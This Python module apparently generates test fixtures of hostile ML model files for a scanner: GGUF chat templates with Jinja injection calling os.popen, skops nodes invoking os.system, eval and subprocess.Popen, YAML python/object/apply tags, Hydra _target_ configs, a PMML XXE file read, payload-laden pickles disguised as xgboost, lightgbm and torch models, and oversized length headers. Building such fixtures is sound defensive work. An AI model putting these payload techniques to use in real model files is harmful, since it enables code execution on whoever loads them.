"""Files of tensors, trees and settings that promise to be data only."""

import base64
import io
import json
import struct
import tarfile
from collections.abc import Iterator
from functools import partial
from typing import Any

from hostile_artifacts.archives import Entry, zipped
from hostile_artifacts.case import FORMAT, Build, Case, Least
from hostile_artifacts.opcodes import COMMAND, PLACE, Code, call, named, payload, push, whole

_HUGE = 10**9
_ESCAPE = "{{ cycler.__init__.__globals__.os.popen('" + COMMAND + "').read() }}"
_SUBCLASSES = "{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}"


def _tensors(header: Any, data: bytes, *, length: int | None = None) -> bytes:
    """A safetensors file."""
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def _f32(begin: int, end: int) -> dict[str, Any]:
    return {"dtype": "U8", "shape": [end - begin], "data_offsets": [begin, end]}


def _hidden() -> dict[str, tuple[str, Build]]:
    """Pickles where the format has no place for them; the library itself loads none."""
    raw = payload()
    text = base64.b64encode(raw).decode()
    apart = {"a": _f32(0, 4), "b": _f32(4 + len(raw), 8 + len(raw))}
    return {
        "safetensors-pickle-behind-the-data": (
            "safetensors-trailing",
            lambda: _tensors({"a": _f32(0, 4)}, bytes(4) + raw),
        ),
        "safetensors-pickle-in-a-hole": (
            "safetensors-hole",
            lambda: _tensors(apart, bytes(4) + raw + bytes(4)),
        ),
        "safetensors-code-in-its-metadata": (
            "safetensors-metadata",
            lambda: _tensors({"__metadata__": {"pickle": text}, "a": _f32(0, 4)}, bytes(4)),
        ),
    }


def _gguf(*pairs: tuple[str, str], count: int | None = None, length: int | None = None) -> bytes:
    """A GGUF file of version 3: texts by name, no tensors. Type 8 = text."""
    body = b""
    for key, value in pairs:
        said = len(value.encode()) if length is None else length
        body += struct.pack("<Q", len(key)) + key.encode()
        body += struct.pack("<IQ", 8, said) + value.encode()
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs) if count is None else count) + body


def _templates() -> dict[str, tuple[str, Build]]:
    about = ("general.architecture", "llama")
    key = "tokenizer.chat_template"
    return {
        "gguf-template-runs-a-command": ("gguf-template", lambda: _gguf(about, (key, _ESCAPE))),
        "gguf-template-lists-classes": ("gguf-template", lambda: _gguf(about, (key, _SUBCLASSES))),
        "gguf-second-template": (
            "gguf-template",
            lambda: _gguf(about, (key, "{{ x }}"), (f"{key}.tool_use", _ESCAPE)),
        ),
    }


def _schema(node: dict[str, Any]) -> bytes:
    """A skops file of one node."""
    schema = {**node, "__id__": 1, "protocol": 2, "_skops_version": "0.13.0"}
    return zipped((Entry(name="schema.json", raw=json.dumps(schema).encode()),))


def _node(loader: str, module: str, name: str, **rest: Any) -> dict[str, Any]:
    return {"__class__": name, "__module__": module, "__loader__": loader, **rest}


def _words(*values: str) -> dict[str, Any]:
    content = [
        _node("JsonNode", "builtins", "str", content=json.dumps(one), is_json=True)
        for one in values
    ]
    return _node("TupleNode", "builtins", "tuple", content=content)


def _skops() -> dict[str, tuple[str, Build]]:
    """Nodes that call something under the name of something else."""
    system = _node("FunctionNode", "posix", "system")
    none = _node("JsonNode", "builtins", "str", content="null", is_json=True)
    method = {"func": "popen", "obj": _node("TypeNode", "os", "path")}
    empty = _node("DictNode", "builtins", "dict", content={}, key_types=_words())
    bound = {"func": system, "args": _words(COMMAND), "kwds": empty, "namespace": none}
    nodes = {
        "skops-operator-of-another-module": _node(
            "OperatorFuncNode", "os", "system", attrs=_words(COMMAND)
        ),
        "skops-method": _node("MethodNode", "builtins", "int", content=method),
        "skops-function": system,
        "skops-eval": _node("FunctionNode", "builtins", "eval"),
        "skops-type": _node("TypeNode", "subprocess", "Popen"),
        "skops-partial": _node("PartialNode", "functools", "partial", content=bound),
        "skops-object": _node("ObjectNode", "subprocess", "Popen", content=empty),
        "skops-reduce": _node(
            "ConstructorFromReduceNode", "subprocess", "Popen", content=_words(COMMAND)
        ),
    }
    found: dict[str, tuple[str, Build]] = {
        name: ("skops-nodes", partial(_schema, node)) for name, node in nodes.items()
    }
    inside = (Entry(name="schema.json", raw=b"{}"), Entry(name="model.pkl", raw=payload()))
    return found | {
        "skops-pickle-inside": ("skops-fallback", lambda: zipped(inside)),
        "skops-that-is-joblib": ("skops-fallback", lambda: payload(4)),
    }


def _nemo(settings: str) -> bytes:
    """A NeMo file: a tar of settings and weights."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        about = tarfile.TarInfo("./model_config.yaml")
        about.size = len(settings.encode())
        archive.addfile(about, io.BytesIO(settings.encode()))
    return buffer.getvalue()


_XXE = f"""<?xml version="1.0"?>
<!DOCTYPE PMML [<!ENTITY x SYSTEM "file://{PLACE}">]>
<PMML version="4.4"><Header copyright="&x;"/></PMML>
"""
_FROM_OUTSIDE = """<?xml version="1.0"?>
<!DOCTYPE PMML SYSTEM "http://nobody.invalid/x.dtd">
<PMML version="4.4"><Header/></PMML>
"""


def _settings() -> dict[str, tuple[str, str, Build]]:
    """Text formats that name what is called, or what is fetched."""
    target = f"model:\n  _target_: os.system\n  command: {COMMAND}\n"
    return {
        "nemo-target": ("hydra-target", ".nemo", lambda: _nemo(target)),
        "nemo-target-nested": (
            "hydra-target",
            ".nemo",
            lambda: _nemo("a:\n  b:\n    - _target_: subprocess.Popen\n      args: [true]\n"),
        ),
        "yaml-target": ("hydra-target", ".yaml", target.encode),
        "yaml-apply": (
            "yaml-tag",
            ".yaml",
            f"x: !!python/object/apply:os.system ['{COMMAND}']\n".encode,
        ),
        "yaml-new": (
            "yaml-tag",
            ".yml",
            f"!!python/object/new:subprocess.Popen [['{COMMAND}']]\n".encode,
        ),
        "yaml-name": (
            "yaml-tag",
            ".yaml",
            lambda: b"- !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
        ),
        "pmml-entity": ("pmml-entity", ".pmml", _XXE.encode),
        "pmml-definition-from-outside": ("pmml-entity", ".pmml", _FROM_OUTSIDE.encode),
    }


def _wrapped() -> dict[str, tuple[str, bytes]]:
    """Models of other libraries around a payload, and types that only look like them."""
    inner = call(named("posix", "system"), COMMAND)
    booster = named("xgboost.core", "Booster") + b")\x81" + push({"handle": inner}) + b"b"
    model = named("xgboost.sklearn", "XGBClassifier") + b")\x81"
    light = named("lightgbm.sklearn", "LGBMClassifier") + b")\x81" + push({"_objective": inner})
    tensor = named("torch._utils", "_rebuild_tensor_v2")
    return {
        "xgboost-pickle-with-a-payload": (
            "boosted-wrapper",
            model + push({"_Booster": Code(booster)}) + b"b",
        ),
        "lightgbm-pickle-with-a-payload": ("boosted-wrapper", light + b"b"),
        "torch-weights-with-a-payload": (
            "torch-weights-only",
            call(tensor, inner, 0, (1,), (1,), False, {}),
        ),
    }


def _weak() -> dict[str, tuple[str, str, Build]]:
    """Nothing is called: whoever believes a length takes the harm."""
    item = push("k") + push(1) + b"s"
    rebuilt = call(named("torch._utils", "_rebuild_tensor_v2"), None, 0, (1,), (1,), False, None)
    ubj = b"{L\x00\x00\x00\x00\x00\x00\x00\x07learner[$d#L" + struct.pack(">q", 1 << 62)
    light = b"tree\nversion=v4\nnum_class=1\ntree_sizes=" + str(_HUGE).encode() + b"\n"
    return {
        "safetensors-header-of-a-gigabyte": (
            "safetensors-header",
            ".safetensors",
            lambda: _tensors({}, b"", length=_HUGE),
        ),
        "safetensors-overlap": (
            "safetensors-hole",
            ".safetensors",
            lambda: _tensors({"a": _f32(0, 8), "b": _f32(4, 12)}, bytes(12)),
        ),
        "gguf-count-of-2-to-60": ("gguf-length", ".gguf", lambda: _gguf(count=1 << 60)),
        "gguf-text-of-2-to-60": (
            "gguf-length",
            ".gguf",
            lambda: _gguf(("general.name", "x"), length=1 << 60),
        ),
        "xgboost-array-of-2-to-62": ("boosted-length", ".ubj", lambda: ubj),
        "lightgbm-tree-of-a-gigabyte": ("boosted-length", ".txt", lambda: light),
        "torch-item-of-a-tensor": (
            "torch-weights-only",
            ".pt",
            lambda: zipped((Entry(name="archive/data.pkl", raw=whole(rebuilt + item)),)),
        ),
    }


def _plain(
    name: str, weakness: str, *, ending: str, build: Build, least: Least = "malicious"
) -> Case:
    return Case(
        name=name, family=FORMAT, weakness=weakness, ending=ending, content=build, least=least
    )


def cases() -> Iterator[Case]:
    """Every file."""
    for ending, group in (
        (".gguf", _templates()),
        (".skops", _skops()),
    ):
        for name, (weakness, build) in group.items():
            yield _plain(name, weakness, ending=ending, build=build)
    for name, (weakness, ending, build) in _settings().items():
        yield _plain(name, weakness, ending=ending, build=build)
    for name, (weakness, body) in _wrapped().items():
        stream = whole(body)
        yield Case(
            name=name,
            family=FORMAT,
            weakness=weakness,
            ending=".pkl",
            content=partial(bytes, stream),
            pickle=partial(bytes, stream),
        )
    for name, (weakness, ending, build) in _weak().items():
        yield _plain(name, weakness, ending=ending, build=build, least="inconclusive")
    for name, (weakness, build) in _hidden().items():
        yield _plain(name, weakness, ending=".safetensors", build=build, least="suspicious")
